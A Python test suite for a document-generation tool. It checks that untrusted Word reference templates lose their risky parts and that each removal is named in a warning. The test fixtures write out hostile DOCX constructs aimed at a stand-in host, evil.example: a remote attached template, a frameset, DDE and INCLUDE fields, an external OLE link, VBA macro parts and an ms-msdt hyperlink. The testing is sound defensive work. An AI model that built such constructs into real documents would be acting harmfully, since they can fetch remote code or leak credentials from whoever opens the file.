"""Untrusted reference documents: risky content is stripped with a warning naming it; limits refused."""

from __future__ import annotations

import os
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from plain_spec import plain_spec  # benchmarks/ (pyproject: pythonpath), shared with scaling.py

from tjansteskrivelse import reference_styles
from tjansteskrivelse.errors import ReferenceDocumentError
from tjansteskrivelse.writer import Reference, write_document

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = ROOT / "templates" / "referens.docx"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def members() -> dict[str, bytes]:
    with zipfile.ZipFile(REFERENCE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def crafted(tmp_path: Path, change) -> Path:
    parts = members()
    change(parts)
    path = tmp_path / "ref.docx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, blob in parts.items():
            archive.writestr(name, blob, compress_type=zipfile.ZIP_DEFLATED)
    return path


def add_rel(parts: dict[str, bytes], name: str, rel: str) -> None:
    parts[name] = parts[name].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def insert(parts: dict[str, bytes], name: str, before: str, xml: str) -> None:
    assert before.encode() in parts[name], before
    parts[name] = parts[name].replace(before.encode(), xml.encode() + before.encode(), 1)


def everything(data: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return b"\n".join(
            archive.namelist()[i].encode() + b"\n" + archive.read(n) for i, n in enumerate(archive.namelist())
        )


def render(reference: Reference) -> bytes:
    return write_document(reference, plain_spec("Text\n"))


def test_builtin_reference_loads_without_warnings():
    reference = Reference.load(REFERENCE)
    assert reference.warnings == ()
    assert reference.data == REFERENCE.read_bytes()


def test_attached_template_is_stripped(tmp_path):
    def attach(parts):
        parts["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{RT}/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>'
        ).encode()
        insert(parts, "word/settings.xml", "<w:defaultTabStop", f'<w:attachedTemplate {R_NS} r:id="rId1"/>')

    reference = Reference.load(crafted(tmp_path, attach))
    assert any("attachedTemplate" in w and "http://evil.example" in w for w in reference.warnings)
    data = everything(render(reference))
    assert b"evil.example" not in data and b"attachedTemplate" not in data


def test_remote_frame_is_stripped(tmp_path):
    def frame(parts):
        parts["word/_rels/webSettings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{RT}/frame" Target="http://evil.example/f.html" '
            'TargetMode="External"/></Relationships>'
        ).encode()
        insert(
            parts,
            "word/webSettings.xml",
            "<w:allowPNG",
            f'<w:frameset><w:frame><w:sourceFileName {R_NS} r:id="rId1"/></w:frame></w:frameset>',
        )

    reference = Reference.load(crafted(tmp_path, frame))
    assert any("frameset" in w for w in reference.warnings)
    assert b"evil.example" not in everything(render(reference))


def test_ole_link_and_external_image_are_stripped(tmp_path):
    def ole(parts):
        parts["word/_rels/header1.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId7" Type="{RT}/oleObject" Target="file://server/share/x.xlsx" '
            'TargetMode="External"/></Relationships>'
        ).encode()
        insert(
            parts,
            "word/header1.xml",
            "</w:hdr>",
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'{R_NS} Type="Link" ProgID="Excel.Sheet.12" r:id="rId7"/></w:object></w:r></w:p>',
        )

    reference = Reference.load(crafted(tmp_path, ole))
    assert any("oleObject" in w and "file://server" in w for w in reference.warnings)
    data = everything(render(reference))
    assert b"OLEObject" not in data and b"server/share" not in data


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "INCLUDETEXT", "LINK", "DDE", "DDEAUTO"])
def test_risky_fields_are_stripped_simple_and_complex(tmp_path, field):
    def fields(parts):
        simple = (
            f'<w:p><w:fldSimple w:instr=" {field} &quot;http://evil.example/a&quot; ">'
            "<w:r><w:t>synlig</w:t></w:r></w:fldSimple></w:p>"
        )
        complex_ = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {field} "http://evil.example/b" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kvar</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
        insert(parts, "word/footer1.xml", "</w:ftr>", simple + complex_)

    reference = Reference.load(crafted(tmp_path, fields))
    assert sum(f"removed field {field}" in w for w in reference.warnings) == 2
    data = everything(render(reference))
    assert b"evil.example" not in data
    assert b"synlig" in data and b"kvar" in data  # the shown result stays


def test_page_fields_are_kept(tmp_path):
    reference = Reference.load(REFERENCE)
    assert b"NUMPAGES" in everything(render(reference))


def test_macro_parts_are_stripped(tmp_path):
    def macros(parts):
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
        parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://x"/>'
        parts["word/_rels/vbaProject.bin.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
            b'Target="vbaData.xml"/></Relationships>'
        )
        add_rel(
            parts,
            "word/_rels/document.xml.rels",
            '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/>',
        )
        types = parts["[Content_Types].xml"].decode()
        types = types.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        types = types.replace(
            "</Types>",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/word/vbaData.xml" '
            'ContentType="application/vnd.ms-word.vbaData+xml"/></Types>',
        )
        parts["[Content_Types].xml"] = types.encode()

    reference = Reference.load(crafted(tmp_path, macros))
    assert {w.rsplit(" ", 1)[-1] for w in reference.warnings} >= {"word/vbaProject.bin", "word/vbaData.xml"}
    data = everything(render(reference))
    assert b"vbaProject" not in data and b"vbaData" not in data and b"macroEnabled" not in data


def test_hyperlinks_in_the_reference_keep_only_web_and_mail(tmp_path):
    def links(parts):
        add_rel(
            parts,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rId90" Type="{RT}/hyperlink" Target="https://ok.example/" TargetMode="External"/>'
            f'<Relationship Id="rId91" Type="{RT}/hyperlink" Target="ms-msdt:/id x" TargetMode="External"/>',
        )

    reference = Reference.load(crafted(tmp_path, links))
    assert len(reference.warnings) == 1 and "ms-msdt" in reference.warnings[0]


def test_not_a_regular_file_is_refused(tmp_path):
    fifo = tmp_path / "fifo.docx"
    os.mkfifo(fifo)
    with pytest.raises(ReferenceDocumentError, match="not a regular file"):
        Reference.load(fifo)
    with pytest.raises(ReferenceDocumentError, match="not a regular file"):
        Reference.load(Path("/dev/zero"))


def test_size_limits_are_named(tmp_path, monkeypatch):
    monkeypatch.setattr(reference_styles, "MAX_REFERENCE_BYTES", 1000)
    with pytest.raises(ReferenceDocumentError, match="larger than the limit of"):
        Reference.load(REFERENCE)
    monkeypatch.undo()
    big = crafted(tmp_path, lambda parts: parts.__setitem__("word/media/big.bin", b"\0" * (51 * 2**20)))
    assert big.stat().st_size < 20 * 2**20
    with pytest.raises(ReferenceDocumentError, match=r"word/media/big.bin is larger than the limit of 50 MB"):
        Reference.load(big)
